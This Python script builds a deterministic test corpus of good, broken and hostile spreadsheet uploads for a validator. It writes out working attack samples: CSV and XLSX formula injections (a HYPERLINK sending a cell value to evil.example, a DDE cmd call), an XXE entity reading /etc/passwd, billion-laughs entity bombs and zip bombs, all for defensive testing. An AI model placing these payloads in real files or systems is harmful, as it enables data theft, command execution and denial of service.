"""Regenerate the upload test corpus in tests/data/uploads/ (good, broken and hostile files).

Run from the project root: ``.venv/bin/python tests/data/make_corpus.py``. The output is
byte-for-byte deterministic (fixed zip timestamps, fixed document properties, seeded random
bytes), so re-running it on any machine leaves git with nothing to commit. Every file stays far
below 200 KB; the big things (zip bombs, entity bombs) are big only once unpacked or expanded.
tests/test_uploads.py holds the expected message for each file.
"""

import datetime
import io
import random
import re
import struct
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook

OUT = Path(__file__).resolve().parent / "uploads"
FIXED_TIME = (2024, 1, 1, 0, 0, 0)
FIXED_STAMP = datetime.datetime(2024, 1, 1)

HEADER = "slug,name,year,title\r\n"
ROWS = "hao-wang,Hao Wang,2021,Distributed training\r\nixeia,Ixeia Sánchez Pérez,2019,Café\r\n"


def rezip(entries, *, compresslevel=6):
    """A zip of (name, bytes) pairs with fixed timestamps, deflated, in the given order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o600 << 16
            archive.writestr(info, data, compresslevel=compresslevel)
    return buffer.getvalue()


def normalised(xlsx: bytes) -> bytes:
    """openpyxl's output with the save time and zip timestamps fixed."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        entries = []
        for info in archive.infolist():
            data = archive.read(info)
            if info.filename == "docProps/core.xml":
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", data)
            entries.append((info.filename, data))
    return rezip(entries)


def workbook_bytes(sheets):
    """An XLSX from {title: rows} made with openpyxl's normal (not write-only) mode."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
    workbook.properties.creator = "Lab Records tests"
    workbook.properties.created = FIXED_STAMP
    buffer = io.BytesIO()
    workbook.save(buffer)
    return normalised(buffer.getvalue())


def replace_part(xlsx: bytes, name: str, data: bytes, *, compresslevel=6) -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        entries = [(i.filename, archive.read(i)) for i in archive.infolist()]
    entries = [(n, data if n == name else d) for n, d in entries]
    return rezip(entries, compresslevel=compresslevel)


def png_bytes():
    """A real 1x1 PNG image."""

    def chunk(kind, payload):
        body = kind + payload
        return struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def sheet_xml(body: str, *, doctype: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        + doctype
        + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + f"<sheetData>{body}</sheetData></worksheet>"
    ).encode()


BILLION_LAUGHS = (
    '<!DOCTYPE worksheet [\n<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n"
)
EXTERNAL_ENTITY = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


def corpus():
    good_rows = [
        ["slug", "name", "year", "score", "joined", "title"],
        ["hao-wang", "Hao Wang", 2021, 3.5, datetime.date(2019, 8, 1), "Distributed training"],
        ["ixeia", "Ixeia Sánchez Pérez", 2019, -3, datetime.date(2014, 1, 31), "Café"],
    ]
    good_xlsx = workbook_bytes({"people": good_rows})
    files = {
        # Good files.
        "good_utf8.csv": (HEADER + ROWS).encode(),
        "good_bom.csv": (HEADER + ROWS).encode("utf-8-sig"),
        "good_semicolon.csv": (HEADER + ROWS).replace(",", ";").encode(),
        "header_only.csv": HEADER.encode(),
        "blank_rows.csv": (HEADER + "\r\n,,,\r\n" + ROWS + "\r\n\r\n").encode(),
        "escaped_values.csv": (
            b"slug,title\r\na,'=1+1\r\nb,'-x\r\nc,'+44 cmd\r\nd,'@me\r\ne,-3\r\n"
            b"f,+44 20 7946 0958\r\n"
        ),
        "good.xlsx": good_xlsx,
        "good_shared_strings.xlsx": shared_strings_workbook(
            sst(["slug", "title", "hao-wang", "'=1+1", "ixeia", "'+44 20"]),
            shared_cells([["0", "1"], ["2", "3"], ["4", "5"], [7, 2.5]]),
        ),
        "workbook.xlsx": workbook_bytes(
            {
                "people": [["slug", "name"], ["hao-wang", "Hao Wang"]],
                "venues": [["name", "kind"], ["NeurIPS", "conference"], ["JMLR", "journal"]],
                "notes": [],
            }
        ),
        # Wrong format.
        "notes.txt": b"slug,name\r\n",
        "old_excel.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        "spreadsheet.ods": rezip([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")]),
        "png_renamed.csv": png_bytes(),
        "png_renamed.xlsx": png_bytes(),
        "csv_renamed.xlsx": (HEADER + ROWS).encode(),
        "xlsx_renamed.csv": good_xlsx,
        "ole_renamed.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        "docx_renamed.xlsx": rezip(
            [
                ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
                ("word/document.xml", b'<?xml version="1.0"?><document/>'),
            ]
        ),
        "ods_renamed.xlsx": rezip(
            [
                ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                ("content.xml", b'<?xml version="1.0"?><document-content/>'),
                ("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest/>'),
            ]
        ),
        "plain_zip.xlsx": rezip([("readme.txt", b"hello")]),
        "truncated.xlsx": good_xlsx[: len(good_xlsx) // 2],
        # Wrong encoding, binary junk.
        "latin1.csv": (HEADER + ROWS).encode("cp1252"),
        "utf16.csv": (HEADER + ROWS).replace(",", "\t").encode("utf-16"),
        "nul_bytes.csv": (HEADER + "hao-wang,Hao\0Wang,2021,x\r\n").encode(),
        "random_bytes.csv": random.Random(4).randbytes(4096),  # noqa: S311 (test data)
        "control_chars.csv": (HEADER + "hao-wang,Hao\x07Wang,2021,x\r\n").encode(),
        # Empty.
        "empty.csv": b"",
        "empty.xlsx": b"",
        "empty_header.csv": (",,,\r\n" + ROWS).encode(),
        "blank_lines_only.csv": b"\r\n\r\n\r\n",
        "empty_workbook.xlsx": workbook_bytes({"Sheet1": []}),
        # Headers and shape.
        "duplicate_header.csv": b"slug,name,year,Name\r\na,b,1,c\r\n",
        "unnamed_column.csv": b"slug,name\r\na,b\r\nc,d,surprise\r\n",
        "too_many_columns.csv": (",".join(f"c{i}" for i in range(101)) + "\r\n").encode(),
        "too_many_rows.csv": ("name\n" + "x\n" * 50_001).encode(),
        "long_cell.csv": ("slug,title\r\na," + "x" * 40_000 + "\r\n").encode(),
        "bad_quotes.csv": b'slug,title\r\na,"never closed\r\n',
        "two_sheets.xlsx": workbook_bytes(
            {"people": [["slug"], ["a"]], "notes": [["text"], ["remember"]]}
        ),
        "too_many_rows.xlsx": replace_part(
            good_xlsx,
            "xl/worksheets/sheet1.xml",
            sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
                      '<row r="60000"><c r="A60000"><v>1</v></c></row>'),
        ),
        "too_many_columns.xlsx": replace_part(
            good_xlsx,
            "xl/worksheets/sheet1.xml",
            sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c>'
                      '<c r="DA1"><v>1</v></c></row>'),
        ),
        "wide_row.xlsx": replace_part(
            good_xlsx, "xl/worksheets/sheet1.xml", sheet_xml("<row>" + "<c/>" * 20_000 + "</row>")
        ),
        # Formulas.
        "formula.csv": (
            b"slug,name,title\r\na,A,ok\r\nb,B,fine\r\n"
            b'c,C,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\r\n'
        ),
        "formula_plus.csv": b"slug,title\r\na,+cmd|' /C calc'!A0\r\n",
        "formula_at.csv": b"slug,title\r\na,@SUM(1+1)*cmd\r\n",
        "formula_tab.csv": b'slug,title\r\na,"\t=1+1"\r\n',
        "formula.xlsx": workbook_bytes(
            {
                "papers": [
                    ["slug", "year", "title"],
                    ["a", 2020, "One"],
                    ["b", 2021, "Two"],
                    ["c", 2022, '=HYPERLINK("http://evil.example/","Click")'],
                ]
            }
        ),
        "error_value.xlsx": replace_part(
            good_xlsx,
            "xl/worksheets/sheet1.xml",
            sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
                      '<row r="2"><c r="A2" t="e"><v>#N/A</v></c></row>'),
        ),
        # Zip bombs: huge once unpacked, tiny as files.
        "zip_bomb_ratio.xlsx": replace_part(
            good_xlsx,
            "xl/worksheets/sheet1.xml",
            sheet_xml(" " * (20 * 1024 * 1024)),
            compresslevel=9,
        ),
        "zip_bomb_declared.xlsx": declared_size_bomb(good_xlsx),
        "zip_many_entries.xlsx": rezip(
            [("[Content_Types].xml", b"<Types/>")] + [(f"x/{i:04}", b"") for i in range(1100)]
        ),
        # XML entity bombs and external entities.
        "billion_laughs.xlsx": replace_part(
            good_xlsx,
            "xl/worksheets/sheet1.xml",
            sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>',
                      doctype=BILLION_LAUGHS),
        ),
        "billion_laughs_strings.xlsx": shared_strings_bomb(),
        "external_entity.xlsx": replace_part(
            good_xlsx,
            "xl/worksheets/sheet1.xml",
            sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>',
                      doctype=EXTERNAL_ENTITY),
        ),
    }
    return files


SST_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


def shared_strings_workbook(strings_xml: bytes, rows_xml: str) -> bytes:
    """A workbook whose sheet refers to a shared strings part, as Excel writes them.

    openpyxl itself writes inline strings, so the part is added and declared in
    [Content_Types].xml, which is where openpyxl looks for it.
    """
    xlsx = workbook_bytes({"people": [["placeholder"]]})
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        entries = [(i.filename, archive.read(i)) for i in archive.infolist()]
    result = []
    for name, data in entries:
        if name == "[Content_Types].xml":
            override = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/>'
            data = data.replace(b"</Types>", override.encode() + b"</Types>")
        elif name == "xl/worksheets/sheet1.xml":
            data = sheet_xml(rows_xml)
        result.append((name, data))
    return rezip([*result, ("xl/sharedStrings.xml", strings_xml)])


def sst(strings, *, doctype=""):
    items = "".join(f"<si><t>{text}</t></si>" for text in strings)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<sst xmlns="{SST_NS}" '
        f'count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>'
    ).encode()


def shared_cells(rows):
    """Sheet rows whose cells are shared-string indexes (str) or numbers."""
    out = []
    for number, row in enumerate(rows, start=1):
        cells = []
        for column, value in enumerate(row):
            ref = f"{chr(65 + column)}{number}"
            if isinstance(value, str):
                cells.append(f'<c r="{ref}" t="s"><v>{value}</v></c>')
            else:
                cells.append(f'<c r="{ref}"><v>{value}</v></c>')
        out.append(f'<row r="{number}">{"".join(cells)}</row>')
    return "".join(out)


def shared_strings_bomb():
    """A workbook that uses shared strings, whose sharedStrings.xml is a billion laughs."""
    return shared_strings_workbook(
        sst(["&lol9;"], doctype=BILLION_LAUGHS.replace("worksheet", "sst")),
        shared_cells([["0"], ["0"]]),
    )


def declared_size_bomb(xlsx: bytes) -> bytes:
    """The workbook with its sheet's declared unpacked size patched to 300 MB in both headers.

    Deflated data does not say how long it unpacks to; the zip directory does, and a reader
    that trusts it must refuse before unpacking (Python's zipfile stops at the declared size).
    """
    data = bytearray(xlsx)
    target = b"xl/worksheets/sheet1.xml"
    huge = struct.pack("<I", 300 * 1024 * 1024)
    # Local file header: signature, then file size at offset 22, name at offset 30.
    local = data.find(b"PK\x03\x04" + b"", 0)
    while local >= 0:
        name_length = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30 : local + 30 + name_length] == target:
            data[local + 22 : local + 26] = huge
        local = data.find(b"PK\x03\x04", local + 4)
    # Central directory header: file size at offset 24, name at offset 46.
    central = data.find(b"PK\x01\x02")
    while central >= 0:
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_length] == target:
            data[central + 24 : central + 28] = huge
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def main():
    OUT.mkdir(exist_ok=True)
    for name, content in sorted(corpus().items()):
        assert len(content) < 200 * 1024, (name, len(content))
        (OUT / name).write_bytes(content)
        print(f"{len(content):>8}  {name}")


if __name__ == "__main__":
    main()
